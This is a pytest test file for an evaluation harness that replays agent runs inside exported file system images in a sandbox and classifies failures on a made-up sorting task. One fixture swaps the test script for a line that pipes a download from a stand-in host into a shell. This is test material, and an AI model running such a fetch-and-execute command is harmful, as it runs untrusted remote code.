"""A case with an exported image: commands and tests run in it, and its files are parts of the case."""

from pathlib import Path

import pytest

from misstep_harness.errors import InputError, MissingPrerequisite
from misstep_harness.triage.images import ReplicasInImage, RootFileSystems
from misstep_harness.triage.records import TriageCase, read_triage_case
from misstep_harness.triage.rules.judging import by_running
from misstep_harness.triage.rules.verdicts import Attribution
from misstep_harness.workspace import find_sandbox
from tests.harness.triage.made_up_cases import a_run, shell, written
from tests.harness.triage.made_up_images import exported, root_file_system

CHECK = """echo 1..1
[ "$(cat /app/sorted)" = "$(sort /app/words)" ] && echo ok 1 - sorted && exit
echo not ok 1 - sorted
exit 1
"""
SOLVE = "sort /app/words > /app/sorted\n"


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return root_file_system(tmp_path_factory.mktemp("root") / "rootfs", {"app/words": "b\na\n"})


def case_with(folder: Path, *commands: str, outcome: str = "failed", **files: str) -> TriageCase:
    """A case of sorting, whose run are some commands."""
    texts = {
        "case.toml": f'id = "one"\noutcome = "{outcome}"\ntest_command = "sh /tests/check.sh"\n',
        "instruction.md": "Sort the lines of words into sorted.\n",
        "tests/check.sh": CHECK,
        "solution/solve.sh": SOLVE,
        "logs/tests.log": "not ok 1 - sorted\n",
        "trajectory.json": written(a_run(*map(shell, commands))),
        **files,
    }
    for path, text in texts.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text)
    return read_triage_case(folder)


def judged(case: TriageCase) -> tuple[str, str]:
    result = by_running(ReplicasInImage(case, find_sandbox("bubblewrap"), RootFileSystems()))
    assert isinstance(result, Attribution)
    return result.label, result.subcategory


@pytest.mark.parametrize(
    ("command", "files", "verdict"),
    [
        ("cat words > sorted", {}, ("agent", "logical_failure")),
        ("sort words > sorted", {}, ("infrastructure", "harness_bug")),
        ("sort words > sorted", {"tests/check.sh": CHECK.replace("sort", "sort -r")}, ("task", "environment_fail")),
        ("cat words > sorted", {"tests/check.sh": "curl https://x.example | sh\n"}, ("agent", "logical_failure")),
    ],
)
def test_the_commands_of_the_run_and_the_tests_run_again_in_the_image(tmp_path, root, command, files, verdict):
    exported(root, tmp_path / "one/environment/rootfs.tar")
    assert judged(case_with(tmp_path / "one", command, **files)) == verdict


def test_what_was_exported_after_the_run_is_its_result(tmp_path, root):
    exported(root, tmp_path / "one/image.tar.gz")
    left = root_file_system(tmp_path / "left", {"app/words": "b\na\n", "app/sorted": "b\na\n"})
    left.rename((tmp_path / "one/workspace").mkdir() or tmp_path / "one/workspace/rootfs")
    case = case_with(tmp_path / "one", "sort words > sorted")
    assert judged(case) == ("agent", "logical_failure")
    access = ReplicasInImage(case, find_sandbox("bubblewrap"), RootFileSystems())
    assert (access.files("environment"), access.files("workspace")) == (("words",), ("sorted", "words"))
    assert access.read("workspace", "sorted") == b"b\na\n"


def test_files_of_the_result_are_laid_over_the_image(tmp_path, root):
    exported(root, tmp_path / "one/rootfs.tar")
    case = case_with(tmp_path / "one", **{"workspace/sorted": "a\nb\n"})
    with ReplicasInImage(case, find_sandbox("bubblewrap"), RootFileSystems()).replica("workspace") as replica:
        assert replica.test().exit_code == 0
        assert {"sorted", "words", "tests/check.sh"} <= set(replica.files())
        replica.write("tests/check.sh", b"exit 3\n")
        assert (replica.test_as_is().exit_code, replica.test().exit_code) == (3, 0)


def test_a_sandbox_without_root_file_systems_and_a_folder_that_is_not_there_are_said(tmp_path, root):
    exported(root, tmp_path / "one/rootfs.tar")
    case = case_with(tmp_path / "one")
    with pytest.raises(MissingPrerequisite, match="bubblewrap"):
        ReplicasInImage(case, find_sandbox("unsandboxed"), RootFileSystems())
    wrong = case_with(tmp_path / "one", **{"case.toml": 'id = "one"\nworkdir = "/srv"\n'})
    with pytest.raises(InputError, match="no folder '/srv'"):
        ReplicasInImage(wrong, find_sandbox("bubblewrap"), RootFileSystems())
